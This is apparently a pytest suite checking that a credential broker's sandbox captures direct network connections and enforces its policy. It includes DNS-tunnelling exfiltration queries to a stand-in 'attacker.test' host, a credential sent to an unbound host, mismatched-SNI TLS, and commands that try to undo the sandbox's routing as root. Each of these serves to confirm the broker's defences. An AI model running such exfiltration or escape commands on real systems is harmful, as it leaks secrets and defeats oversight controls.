"""Transparent capture in `broker wrap` (docs/architecture.md): a program that ignores the proxy variables
works through the broker unmodified, with the same policy, swaps, refusals and audit.

Each test runs the real binary around a command that dials directly (curl --noproxy '*',
python's requests with trust_env=False, raw sockets, Node's fetch and the official SDKs), with
the fake upstreams on the host's loopback reached through --connect-to as in test_wrap.py.
Inside, names resolve through the broker's DNS to synthetic addresses, and every TCP connection
to a non-loopback address lands on the broker. Each test first proves the command ran.
"""

import json
import os
import shutil
import socket
import subprocess
import threading
from pathlib import Path

import pytest

from conftest import BROKER_BIN, clean_env
from test_wrap import (API, NOBODY, PY, REAL, WrapSession, assert_clean, github_policy,
                       nobody, session_lines, ws)  # noqa: F401

RAN = "command-ran"
SDK_DIR = Path(os.environ.get("BROKER_AGENTS_DIR", "/var/cache/broker-agents")) / "sdk"
SDK_CALL = Path(__file__).resolve().parent.parent / "agents" / "sdk_call.mjs"


def captured(ws, host=API):
    return [r for r in ws.records() if r.get("captured") and r.get("host") == host]


# A DNS query for NAME/TYPE to SERVER:53 over UDP (or TCP), printed as one JSON line: the rcode
# and the answers' addresses. Pure stdlib, so that it runs in the child.
_DNS = r"""
import json, socket, struct, sys
name, qtype, server, transport = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
q = struct.pack('!HHHHHH', 0x4242, 0x0100, 1, 0, 0, 0)
for label in name.split('.'):
    q += bytes([len(label)]) + label.encode()
q += b'\0' + struct.pack('!HH', qtype, 1)
fam = socket.AF_INET6 if ':' in server else socket.AF_INET
try:
    if transport == 'udp':
        s = socket.socket(fam, socket.SOCK_DGRAM); s.settimeout(3)
        s.sendto(q, (server, 53)); r = s.recv(4096)
    else:
        s = socket.create_connection((server, 53), timeout=3)
        s.sendall(struct.pack('!H', len(q)) + q)
        n = struct.unpack('!H', s.recv(2))[0]; r = b''
        while len(r) < n: r += s.recv(n - len(r))
except OSError as e:
    print(json.dumps({'server': server, 'error': type(e).__name__})); sys.exit(0)
rcode, ancount = r[3] & 15, struct.unpack('!H', r[6:8])[0]
i = 12 + len(q) - 12  # past the question (echoed as sent)
out = []
for _ in range(ancount):
    i += 2  # a compression pointer to the question's name
    t, _c, _ttl, ln = struct.unpack('!HHIH', r[i:i + 10]); i += 10
    data = r[i:i + ln]; i += ln
    if t == 1: out.append(socket.inet_ntop(socket.AF_INET, data))
    if t == 28: out.append(socket.inet_ntop(socket.AF_INET6, data))
print(json.dumps({'server': server, 'rcode': rcode, 'answers': out}))
"""


# --------------------------------------------------------------------------------------------
# Clients that ignore the proxy variables
# --------------------------------------------------------------------------------------------

def test_curl_noproxy_reaches_github_through_the_broker_with_the_real_token(ws, tls_upstream):
    r = ws.run("sh", "-c",
               f'echo {RAN}; cat /etc/resolv.conf; getent ahostsv4 {API} | head -1; '
               'curl -sS --noproxy "*" --max-time 10 -o /dev/null -w "status:%{http_code}\\n" '
               f'-H "Authorization: Bearer $GITHUB_TOKEN" https://{API}/captured/curl')
    assert r.returncode == 0, r.describe()
    assert RAN in r.out and "status:200" in r.out, r.describe()
    assert "nameserver 127.0.0.1" in r.out, r.out
    assert "198.18." in r.out, f"{API} did not resolve to a synthetic address: {r.out}"
    assert session_lines(r.err)[0].endswith("isolation: netns, transparent capture"), r.err
    seen = [q for q in tls_upstream.requests if q["path"] == "/captured/curl"]
    assert seen and seen[0]["headers"].get("Authorization") == f"Bearer {REAL}", seen
    rec = [x for x in captured(ws) if x.get("path") == "/captured/curl"]
    assert rec and rec[0]["event"] == "request" and rec[0]["status"] == 200, ws.records()
    assert rec[0]["credential"] == "github" and rec[0]["scheme"] == "https", rec
    assert rec[0]["exe"] and rec[0]["exe"].endswith("/curl"), rec  # attribution works too
    start = [x for x in ws.records() if x["event"] == "session_start"][0]
    assert start["capture"] is True, start
    assert_clean(r.stdout + r.stderr, "wrap output", REAL)
    ws.assert_logs_clean()


def test_python_requests_without_proxy_variables_reaches_github(ws, tls_upstream):
    script = ("import os, requests\n"
              "s = requests.Session(); s.trust_env = False\n"
              f"r = s.get('https://{API}/captured/requests', timeout=10,\n"
              "          verify=os.environ['REQUESTS_CA_BUNDLE'],\n"
              "          headers={'Authorization': 'token ' + os.environ['GITHUB_TOKEN']})\n"
              "print('status:%d' % r.status_code)\n")
    r = ws.run(PY, "-c", script)
    assert r.returncode == 0 and "status:200" in r.out, r.describe()
    seen = [q for q in tls_upstream.requests if q["path"] == "/captured/requests"]
    assert seen and seen[0]["headers"].get("Authorization") == f"token {REAL}", seen
    assert [x for x in captured(ws) if x.get("path") == "/captured/requests"], ws.records()
    ws.assert_logs_clean()


def test_ipv6_connections_are_captured_too(ws, tls_upstream):
    r = ws.run("sh", "-c",
               f'echo {RAN}; getent ahostsv6 {API} | head -1; '
               'curl -6 -sS --noproxy "*" --max-time 10 -o /dev/null -w "status:%{http_code}\\n" '
               f'-H "Authorization: Bearer $GITHUB_TOKEN" https://{API}/captured/v6')
    assert r.returncode == 0 and "status:200" in r.out, r.describe()
    assert "fd62:726b:7200::" in r.out, r.out
    seen = [q for q in tls_upstream.requests if q["path"] == "/captured/v6"]
    assert seen and seen[0]["headers"].get("Authorization") == f"Bearer {REAL}", seen


def test_plain_http_is_captured_and_refused_where_the_policy_says(ws):
    # http://api.github.com is allowed (ports 80 and 443) but the upstream here speaks TLS only,
    # so use a host the policy refuses: the refusal is the JSON of docs/cli.md, audited as captured.
    r = ws.run("sh", "-c",
               f'echo {RAN}; curl -sS --noproxy "*" --max-time 10 -D - http://{API}.evil.test/x')
    assert RAN in r.out, r.describe()
    assert "nxdomain" in r.err.lower() or "resolve" in r.err.lower() or r.returncode != 0, \
        r.describe()
    # The name was refused at DNS already: nothing was dialed, and a dns record says so.
    dns = [x for x in ws.records() if x["event"] == "dns"]
    assert any(x["host"] == f"{API}.evil.test" for x in dns), ws.records()


def test_a_literal_public_ip_is_refused_by_the_policy_and_never_dialed(ws):
    r = ws.run("sh", "-c",
               f'echo {RAN}; curl -sS --noproxy "*" --max-time 10 -D - http://93.184.215.14/ip')
    assert RAN in r.out, r.describe()
    assert "HTTP/1.1 403" in r.out and "x-broker-error: policy_denied" in r.out.lower(), r.out
    body = json.loads(r.out.split("\r\n\r\n", 1)[1])
    assert body["error"] == "policy_denied" and body["host"] == "93.184.215.14", body
    rec = [x for x in ws.records() if x.get("captured") and x.get("host") == "93.184.215.14"]
    assert rec and rec[0]["decision"] == "deny", ws.records()


def test_tls_whose_server_name_is_not_the_resolved_name_is_refused(ws, tls_upstream):
    # The child resolves api.github.com, then talks TLS to that address naming another host (-k:
    # the broker's leaf names api.github.com, so a verifying client stops at the handshake).
    r = ws.run("sh", "-c",
               f'echo {RAN}; addr=$(getent ahostsv4 {API} | head -1 | cut -d" " -f1); '
               'curl -sS -k --noproxy "*" --max-time 10 -o /dev/null -w "status:%{http_code}\\n" '
               f'--resolve other.test:443:$addr https://other.test/sni')
    assert RAN in r.out, r.describe()
    assert "status:421" in r.out, r.describe()
    assert not [q for q in tls_upstream.requests if q["path"] == "/sni"]


# --------------------------------------------------------------------------------------------
# DNS
# --------------------------------------------------------------------------------------------

class _FakeResolver:
    """A UDP DNS server on the host's loopback that counts what reaches it."""

    def __init__(self):
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.sock.settimeout(0.2)
        self.packets = []
        self.stopping = False
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self):
        while not self.stopping:
            try:
                self.packets.append(self.sock.recvfrom(4096)[0])
            except socket.timeout:
                continue
            except OSError:
                return

    def close(self):
        self.stopping = True
        self.thread.join()
        self.sock.close()


def test_dns_for_a_refused_name_goes_nowhere_and_is_audited(ws):
    resolver = _FakeResolver()
    exfil = "c2VjcmV0LXRva2VuLWRhdGE.exfil.attacker.test"
    try:
        # The resolver the child is told about, the host's real one, a public one, and the
        # fake on the host's loopback by its port (inside, that loopback is the namespace's).
        r = ws.run("sh", "-c",
                   f'echo {RAN}; for s in 127.0.0.1 10.255.255.53 8.8.8.8 ::1 2001:4860:4860::8888; do '
                   f'{PY} -c "$1" {exfil} 16 $s udp; done; '
                   f'{PY} -c "$1" {exfil} 1 9.9.9.9 tcp; '
                   f'{PY} -c "$1" {API} 1 127.0.0.1 udp; {PY} -c "$1" {API} 28 1.1.1.1 tcp; '
                   f'getent hosts {exfil} || echo getent:none; '
                   f'{PY} -c "import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); '
                   f's.sendto(b\'x\', (\'127.0.0.1\', {resolver.port})); print(\'sent\')"',
                   "sh", _DNS)
    finally:
        resolver.close()
    assert RAN in r.out, r.describe()
    answers = [json.loads(l) for l in r.out.splitlines() if l.startswith("{")]
    refused = [a for a in answers if a.get("rcode") == 3]
    assert len(refused) == 6, answers  # every server, UDP and TCP: NXDOMAIN from the broker
    allowed = [a for a in answers if a.get("rcode") == 0]
    assert len(allowed) == 2, answers
    assert allowed[0]["answers"][0].startswith("198.18."), allowed
    assert allowed[1]["answers"][0].startswith("fd62:726b:7200::"), allowed
    assert "getent:none" in r.out, r.out
    assert resolver.packets == [], "a packet from the child reached the host's loopback"
    dns = [x for x in ws.records() if x["event"] == "dns"]
    assert len(dns) >= 7, dns
    assert {x["method"] for x in dns} >= {"TXT", "A"}, dns
    assert all(x["host"] == exfil.lower() and x["decision"] == "deny" and
               x["rule"] == "default_deny" for x in dns), dns


def test_udp_other_than_dns_is_refused(ws):
    script = ("import socket\n"
              "for host in ('1.2.3.4', '198.18.0.2', '::1'):\n"
              "    fam = socket.AF_INET6 if ':' in host else socket.AF_INET\n"
              "    s = socket.socket(fam, socket.SOCK_DGRAM); s.settimeout(3)\n"
              "    s.connect((host, 443)); s.send(b'\\xc0quic-initial')\n"
              "    try:\n"
              "        s.recv(100); print(host, 'answered')\n"
              "    except ConnectionRefusedError:\n"
              "        print(host, 'refused')\n"
              "    except socket.timeout:\n"
              "        print(host, 'timeout')\n")
    r = ws.run(PY, "-c", script)
    assert r.returncode == 0, r.describe()
    assert r.out.split() == ["1.2.3.4", "refused", "198.18.0.2", "refused", "::1", "refused"], \
        r.out


# --------------------------------------------------------------------------------------------
# Other protocols: only through a tunnel rule
# --------------------------------------------------------------------------------------------

class _BannerServer:
    """A server-speaks-first TCP service (like SSH): sends a banner, echoes one line back."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.port = self.sock.getsockname()[1]
        self.accepted = 0
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self):
        while True:
            try:
                c, _ = self.sock.accept()
            except OSError:
                return
            self.accepted += 1
            with c:
                c.settimeout(5)
                c.sendall(b"SSH-2.0-fake\r\n")
                try:
                    line = c.recv(100)
                    c.sendall(b"echo:" + line)
                except OSError:
                    pass

    def close(self):
        self.sock.close()


def test_raw_tcp_passes_only_where_a_tunnel_rule_allows_it(tmp_path, pki, tls_upstream):
    banner = _BannerServer()
    policy = github_policy({"allow": [{"host": API}, {"host": "git.example.test", "ports": [22],
                                                      "tunnel": True},
                                      {"host": "raw.example.test", "ports": [7000]}]})
    ws = WrapSession(tmp_path, pki, tls_upstream.port, policy=policy,
                     connect=[f"git.example.test:22:127.0.0.1:{banner.port}",
                              f"raw.example.test:7000:127.0.0.1:{banner.port}"])
    script = ("import socket, sys\n"
              "for host, port in (('git.example.test', 22), ('raw.example.test', 7000),\n"
              "                   ('api.github.com', 22)):\n"
              "    s = socket.create_connection((host, port), timeout=5)\n"
              "    got = b''\n"
              "    s.settimeout(2)\n"
              "    try:\n"
              "        got += s.recv(100)\n"
              "    except (socket.timeout, OSError):\n"
              "        pass\n"
              "    try:\n"
              "        s.sendall(b'hello\\n'); got += s.recv(200)\n"
              "    except (socket.timeout, OSError):\n"
              "        pass\n"
              "    print(host, port, repr(got))\n")
    try:
        r = ws.run(PY, "-c", script, timeout=60)
    finally:
        banner.close()
    assert r.returncode == 0, r.describe()
    lines = r.out.splitlines()
    assert "SSH-2.0-fake" in lines[0] and "echo:hello" in lines[0], lines
    assert "SSH-2.0-fake" not in lines[1] and "SSH-2.0-fake" not in lines[2], lines
    assert "400 Bad Request" in lines[1], lines  # the broker read the bytes as HTTP
    assert banner.accepted == 1, "a connection without a tunnel rule reached the service"
    recs = ws.records()
    tunnel = [x for x in recs if x.get("captured") and x.get("host") == "git.example.test"]
    assert tunnel and tunnel[0]["event"] == "tunnel" and tunnel[0]["port"] == 22, recs
    no_rule = [x for x in recs if x.get("captured") and x.get("host") == API and x["port"] == 22]
    assert no_rule and no_rule[0]["decision"] == "deny", recs
    # raw bytes to a host that is allowed but not as a tunnel: refused and audited
    raw = [x for x in recs if x.get("captured") and x.get("host") == "raw.example.test"]
    assert raw and raw[-1]["decision"] == "deny", "\n".join(json.dumps(x) for x in recs)


# --------------------------------------------------------------------------------------------
# The kernel set-up cannot be undone from inside; unprivileged mode captures the same way
# --------------------------------------------------------------------------------------------

def test_a_root_child_cannot_undo_the_capture(ws, tls_upstream):
    if os.geteuid() != 0:
        pytest.skip("only a root broker gives the child root")
    r = ws.run("sh", "-c",
               f'echo {RAN}; ip route del local 0.0.0.0/0 dev lo 2>&1; '
               'ip -6 route del local ::/0 dev lo 2>&1; ip link set lo down 2>&1; '
               'curl -sS --noproxy "*" --max-time 10 -o /dev/null -w "status:%{http_code}\\n" '
               f'https://{API}/still-captured')
    assert RAN in r.out, r.describe()
    assert "status:200" in r.out, r.describe()
    assert [q for q in tls_upstream.requests if q["path"] == "/still-captured"]


def test_unprivileged_wrap_captures_direct_connections(nobody, tls_upstream):
    r = nobody.run(tls_upstream.port, "sh", "-c",
                   f'echo {RAN}; curl -sS --noproxy "*" --max-time 10 -o /dev/null '
                   '-w "status:%{http_code}\\n" -H "Authorization: Bearer $GITHUB_TOKEN" '
                   f'https://{API}/nobody-captured; '
                   f'getent hosts dGVzdA.exfil.test || echo getent:none')
    assert r.returncode == 0, r.describe()
    assert "status:200" in r.out and "getent:none" in r.out, r.describe()
    assert session_lines(r.err)[0].endswith("isolation: netns, transparent capture"), r.err
    seen = [q for q in tls_upstream.requests if q["path"] == "/nobody-captured"]
    assert seen and seen[0]["headers"].get("Authorization") == f"Bearer {REAL}", seen
    recs = [json.loads(l) for f in nobody.logs.glob("*.jsonl") for l in f.read_text().split()]
    assert [x for x in recs if x.get("captured") and x.get("path") == "/nobody-captured"], recs
    assert [x for x in recs if x["event"] == "dns" and x["host"] == "dgvzda.exfil.test"], recs
    assert_clean(r.stdout + r.stderr, "wrap output", REAL)


def test_isolate_env_says_it_cannot_capture(ws):
    r = ws.run("sh", "-c", f"echo {RAN}", isolate="env")
    assert r.returncode == 0 and RAN in r.out, r.describe()
    assert "no transparent capture" in session_lines(r.err)[0], r.err


# --------------------------------------------------------------------------------------------
# Budgets and the brokers' refusals work the same on captured connections
# --------------------------------------------------------------------------------------------

def test_a_captured_client_meets_the_budget_and_the_exfiltration_guard(tmp_path, pki, tls_upstream):
    other = "api.other.test"
    policy = github_policy({"allow": [{"host": API}, {"host": other}],
                            "budgets": {"requests": 2}})
    ws = WrapSession(tmp_path, pki, tls_upstream.port, policy=policy,
                     connect=[f"{other}:443:127.0.0.1:{tls_upstream.port}"])
    get = ('curl -sS --noproxy "*" --max-time 10 -o /dev/null -w "%{http_code} " '
           '-H "Authorization: Bearer $GITHUB_TOKEN" ')
    r = ws.run("sh", "-c", f'echo {RAN}; {get} https://{other}/leak; '
                           f'{get} https://{API}/one; {get} https://{API}/two; '
                           f'{get} https://{API}/three')
    assert RAN in r.out, r.describe()
    # The dummy sent to a host its credential is not bound to: 403, nothing forwarded.
    assert r.out.split()[1:] == ["403", "200", "429", "429"], r.describe()
    assert not [q for q in tls_upstream.requests if q["path"] == "/leak"]
    recs = [x for x in ws.records() if x.get("captured")]
    leak = [x for x in recs if x.get("path") == "/leak"]
    assert leak and leak[0]["event"] == "exfiltration_blocked", recs
    assert leak[0]["error"] == "credential_not_bound", leak
    spent = [x for x in recs if x.get("error") == "budget_exhausted"]
    assert len(spent) == 2, recs
    ws.assert_logs_clean()


# --------------------------------------------------------------------------------------------
# The session's end
# --------------------------------------------------------------------------------------------

def test_the_broker_ends_with_its_output_closed_everywhere(tmp_path):
    """The last close of the socket capture's rules went over waits for the kernel (an RCU grace
    period, long after a short command has ended), so a process of the broker's own does it
    while the broker ends with its command. That process holds nothing else of the broker's:
    whoever reads the broker's output (`$(broker wrap -- ...)`, a pipe) has its end as soon as
    the broker has ended, not a grace period later."""
    home = tmp_path / "home"
    home.mkdir()
    env = clean_env({"HOME": str(home), "XDG_RUNTIME_DIR": str(tmp_path)})
    for _ in range(5):
        p = subprocess.Popen([BROKER_BIN, "wrap", "--log-dir", str(tmp_path / "logs"), "--",
                              "sh", "-c", f"echo {RAN}"], env=env, cwd=tmp_path,
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        assert p.wait(timeout=60) == 0
        read = {}
        for name, pipe in (("stdout", p.stdout), ("stderr", p.stderr)):
            os.set_blocking(pipe.fileno(), False)
            read[name] = b""
            while True:
                try:
                    chunk = os.read(pipe.fileno(), 65536)
                except BlockingIOError:
                    pytest.fail(f"the broker has ended but its {name} is still held open: "
                                f"{read[name]!r}")
                if not chunk:
                    break
                read[name] += chunk
            pipe.close()
        assert RAN in read["stdout"].decode(), read
        # Capture was set up, so there was a rules socket to close.
        assert "netns, transparent capture" in read["stderr"].decode(), read
        assert "transparent capture is unavailable" not in read["stderr"].decode(), read
